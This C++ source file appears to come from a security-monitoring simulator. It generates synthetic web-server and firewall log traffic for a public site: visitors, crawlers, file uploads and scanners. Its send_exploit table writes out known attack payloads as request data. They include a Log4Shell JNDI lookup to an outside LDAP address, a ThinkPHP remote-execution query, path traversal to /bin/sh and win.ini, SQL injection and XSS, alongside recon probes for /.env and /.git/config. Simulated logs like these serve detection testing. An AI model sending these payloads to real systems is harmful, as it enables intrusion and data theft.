#include <chrono>
#include <string>
#include <string_view>
#include <utility>

#include <fmt/format.h>

#include "scenario/internal/noise/context.h"

/// Noise of the public web site: readers, crawlers, users, those who look for holes.
namespace longwatch::scenario::internal {
namespace {

using std::chrono::milliseconds;
using std::chrono::seconds;

constexpr std::string_view kPages[] = {"/",         "/bills/", "/bills/current", "/committees/",
                                       "/members/", "/search", "/news/",         "/visit/",
                                       "/contact",  "/rules/", "/petitions/",    "/calendar"};
constexpr std::string_view kPictures[] = {
    "/static/site.css",   "/static/site.js",   "/static/crest.png",
    "/static/banner.jpg", "/favicon.ico",      "/static/fonts.woff2",
    "/static/map.svg",    "/static/print.css", "/static/vendor.js"};
constexpr std::string_view kProbes[] = {
    "/.env",         "/wp-login.php",    "/.git/config", "/admin/",
    "/phpmyadmin/",  "/server-status",   "/owa/",        "/vendor/phpunit/",
    "/cgi-bin/luci", "/actuator/health", "/robots.txt",  "/sitemap.xml",
    "/backup.zip",   "/config.json",     "/login",       "/autodiscover/autodiscover.xml"};
constexpr std::string_view kProbeAgents[] = {"Mozilla/5.0 (compatible; surveybot/2.1)",
                                             "curl/8.5.0",
                                             "Go-http-client/1.1",
                                             "python-requests/2.32.3",
                                             "-",
                                             "Mozilla/5.0 zgrab/0.x"};
constexpr std::string_view kCrawlers[] = {
    "Mozilla/5.0 (compatible; ExampleBot/2.1; +https://search.example/bot)",
    "Mozilla/5.0 (compatible; FindItAllBot/1.4; +https://finditall.example/bot)",
    "ArchiveBot/3.0 (+https://archive.example.org)"};

/// What the site does for somebody at one address.
class Visit {
 public:
  Visit(NoiseContext& at, Random& random, Timestamp time, std::string client, std::string agent)
      : at_(at), random_(random), first_(time), time_(time) {
    request_.client = std::move(client);
    request_.agent = std::move(agent);
  }

  void ask(std::string path, int status, std::uint64_t sent, std::string query = "-") {
    request_.time = time_;
    request_.method = "GET";
    request_.path = std::move(path);
    request_.query = std::move(query);
    request_.status = status;
    request_.sent = status == 304 ? 180 : sent;
    request_.received = random_.between(310, 720);
    request_.milliseconds = random_.between(3, 240);
    write();
  }

  void post(std::string path, int status, std::uint64_t received) {
    request_.time = time_;
    request_.method = "POST";
    request_.path = std::move(path);
    request_.query = "-";
    request_.status = status;
    request_.sent = status == 201 ? 418 : random_.between(230, 380);
    request_.received = received;
    request_.milliseconds = random_.between(40, 900);
    write();
  }

  void wait(std::uint32_t least, std::uint32_t most) {
    time_ += milliseconds(random_.between(least, most));
  }

  Timestamp time() const { return time_; }

  /// The connection that all of it went over, as the network sensor and the firewall see it.
  void finish(std::uint32_t logged_percent) {
    const World& world = at_.world();
    const WorldHost* const host = world.host(world.site.host);
    if (host == nullptr) {
      return;
    }
    Connection connection;
    connection.time = first_ - milliseconds(random_.between(20, 60));
    connection.from = request_.client;
    connection.to = host->address;
    connection.seconds = std::chrono::duration<double>(time_ - connection.time).count() + 0.4;
    connection.out = received_;
    connection.in = sent_;
    Certificate& shown = connection.certificate.emplace();
    shown.server_name = world.site.name;
    shown.subject = "CN=" + world.site.name;
    shown.issuer = "CN=Tarawera Public Trust CA 2";
    shown.serial = world.site.serial;
    at_.sensors().connect(connection);
    if (random_.chance(logged_percent)) {
      at_.sensors().pass_firewall(
          {.time = connection.time,
           .from = request_.client,
           .to = host->public_address.empty() ? host->address : host->public_address,
           .rule = "Internet-to-DMZ-web"});
    }
  }

 private:
  void write() {
    at_.sensors().request(request_);
    sent_ += request_.sent;
    received_ += request_.received;
  }

  NoiseContext& at_;
  Random& random_;
  WebRequest request_;
  Timestamp first_;
  Timestamp time_;
  std::uint64_t sent_ = 3200;
  std::uint64_t received_ = 900;
};

// What there is to read grows with the scale, so that addresses stay as different as visitors are.
std::string page(NoiseContext& at, Random& random) {
  const auto bills =
      static_cast<std::uint32_t>(480.0 * (at.world().scale > 1 ? at.world().scale : 1.0));
  switch (random.below(4)) {
    case 0:
      return std::string(random.pick(kPages));
    case 1:
      return fmt::format("/members/{}", random.between(1, 120));
    default:
      return fmt::format("/bills/{}", random.between(100, 100 + bills));
  }
}

void read_page(NoiseContext& at, Random& random, Visit& visit, bool is_first) {
  std::string path = page(at, random);
  const bool is_search = path == "/search";
  const int status = random.below(60) == 0 ? 404 : random.chance(10) ? 304 : 200;
  visit.ask(std::move(path), status, random.between(4'000, 64'000),
            is_search ? fmt::format("q={}", made_name(random.below(4000))) : "-");
  const std::uint32_t pictures = random.below(is_first ? 8 : 3);
  for (std::uint32_t i = 0; i < pictures; ++i) {
    visit.wait(15, 220);
    visit.ask(std::string(random.pick(kPictures)), random.chance(is_first ? 25 : 70) ? 304 : 200,
              random.between(900, 190'000));
  }
}

void visit_site(NoiseContext& at, std::uint32_t logged_percent, Timestamp time, Random& random) {
  Visit visit(at, random, time, at.visitor(random), std::string(browser_agent(random)));
  const std::uint32_t pages = random.chance(45) ? 1 : random.between(2, 5);
  for (std::uint32_t i = 0; i < pages; ++i) {
    read_page(at, random, visit, i == 0);
    visit.wait(3'000, 90'000);
  }
  visit.finish(logged_percent);
}

void crawl(NoiseContext& at, const std::vector<std::string>& crawlers, Timestamp time,
           Random& random) {
  const std::uint32_t which = random.below(static_cast<std::uint32_t>(crawlers.size()));
  Visit visit(at, random, time, crawlers[which], std::string(kCrawlers[which % 3]));
  const std::uint32_t pages = random.between(4, 16);
  for (std::uint32_t i = 0; i < pages; ++i) {
    visit.ask(page(at, random),
              random.chance(6)    ? 404
              : random.chance(30) ? 304
                                  : 200,
              random.between(4'000, 50'000));
    visit.wait(800, 6'000);
  }
  visit.finish(0);
}

// A crawler goes through a list of addresses that were there before the site was built anew.
void crawl_old_pages(NoiseContext& at, const std::vector<std::string>& crawlers, Timestamp time,
                     Random& random) {
  const std::uint32_t which = random.below(static_cast<std::uint32_t>(crawlers.size()));
  Visit visit(at, random, time, crawlers[which], std::string(kCrawlers[which % 3]));
  const std::uint32_t pages = random.between(40, 160);
  for (std::uint32_t i = 0; i < pages; ++i) {
    const bool is_gone = random.chance(92);
    visit.ask(fmt::format("/archive/{}/{}.html", random.between(1998, 2016), random.below(9000)),
              is_gone ? 404 : 301, is_gone ? 1245 : 320);
    visit.wait(200, 1'500);
  }
  visit.finish(0);
}

// Code for holes of programs that the site is not made of.
void send_exploit(Random& random, Visit& visit) {
  struct Attempt {
    std::string_view path;
    std::string_view query;
  };

  constexpr Attempt kAttempts[] = {
      {"/index.php", "s=/index/think/app/invokefunction&function=call_user_func_array"},
      {"/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "-"},
      {"/search", "q=%27%20UNION%20SELECT%20null,null--"},
      {"/search", "q=%3Cscript%3Ealert(1)%3C/script%3E"},
      {"/static/..%2f..%2fwindows/win.ini", "-"},
      {"/login", "user=$%7Bjndi:ldap://198.18.7.7/a%7D"},
      {"/struts2-showcase/index.action", "-"}};
  const Attempt& attempt = random.pick(kAttempts);
  visit.ask(std::string(attempt.path), random.chance(30) ? 400 : 404, 1245,
            std::string(attempt.query));
}

void probe_site(NoiseContext& at, std::uint32_t exploit_percent, Timestamp time, Random& random) {
  Visit visit(at, random, time, at.visitor(random), std::string(random.pick(kProbeAgents)));
  const std::uint32_t requests = random.between(1, 12);
  const bool has_code = random.chance(exploit_percent);
  for (std::uint32_t i = 0; i < requests; ++i) {
    if (has_code && random.chance(50)) {
      send_exploit(random, visit);
    } else {
      visit.ask(std::string(random.pick(kProbes)), random.chance(8) ? 403 : 404, 1245);
    }
    visit.wait(60, 900);
  }
  visit.finish(100);
}

// Users of the site log in, send a file, look at what became of it.
void send_file(NoiseContext& at, double refused_percent, Timestamp time, Random& random) {
  const World& world = at.world();
  Visit visit(at, random, time, at.visitor(random), std::string(browser_agent(random)));
  visit.ask("/account/login", 200, 6'120);
  visit.wait(4'000, 20'000);
  visit.post("/account/login", random.chance(7) ? 401 : 302, random.between(640, 720));
  visit.wait(20'000, 240'000);
  const bool refused = random.below(10'000) < static_cast<std::uint32_t>(refused_percent * 100);
  if (refused) {
    visit.post(world.site.upload_path, random.chance(70) ? 400 : 413,
               random.between(20'000, 4'000'000));
    visit.wait(20'000, 90'000);
  }
  if (!refused || random.chance(60)) {
    visit.post(world.site.upload_path, 201, random.between(20'000, 900'000));
    visit.wait(300, 2'000);
    visit.ask("/submissions/mine", 200, random.between(5'000, 16'000));
  }
  visit.finish(12);
}

std::vector<std::string> draw_crawlers(const NoisePlan& plan) {
  Random random(plan.seed);
  std::vector<std::string> crawlers;
  const auto count = static_cast<std::size_t>(plan.profile.number("crawlers"));
  while (crawlers.size() < count) {
    crawlers.push_back(plan.at.visitor(random));
  }
  return crawlers;
}

void plan_crawlers(const NoisePlan& plan) {
  constexpr double kPagesOfOneRun = 10;
  NoiseContext& at = plan.at;
  const std::vector<std::string> crawlers = draw_crawlers(plan);
  plan.add_rate(
      plan.profile.number("requests_per_day") / kPagesOfOneRun * at.world().scale, Curve::Steady,
      [&at, crawlers](Timestamp time, Random& random) { crawl(at, crawlers, time, random); });
  plan.add("bursts_per_day", Curve::Steady, [&at, crawlers](Timestamp time, Random& random) {
    crawl_old_pages(at, crawlers, time, random);
  });
}

}  // namespace

void plan_outside(const NoisePlan& plan) {
  NoiseContext& at = plan.at;
  const NoiseProfile& profile = plan.profile;
  if (profile.kind == "web_visitors") {
    const auto logged = static_cast<std::uint32_t>(profile.number("logged_percent"));
    plan.add("visits_per_day", Curve::Public, [&at, logged](Timestamp time, Random& random) {
      visit_site(at, logged, time, random);
    });
  } else if (profile.kind == "search_crawlers") {
    plan_crawlers(plan);
  } else if (profile.kind == "web_probes") {
    const auto exploits = static_cast<std::uint32_t>(profile.number("exploit_percent"));
    plan.add("probes_per_day", Curve::Steady, [&at, exploits](Timestamp time, Random& random) {
      probe_site(at, exploits, time, random);
    });
  } else if (profile.kind == "site_users" && !at.world().site.upload_path.empty()) {
    const double refused = profile.number("refused_percent");
    plan.add("uploads_per_day", Curve::Public, [&at, refused](Timestamp time, Random& random) {
      send_file(at, refused, time, random);
    });
  }
}

}  // namespace longwatch::scenario::internal
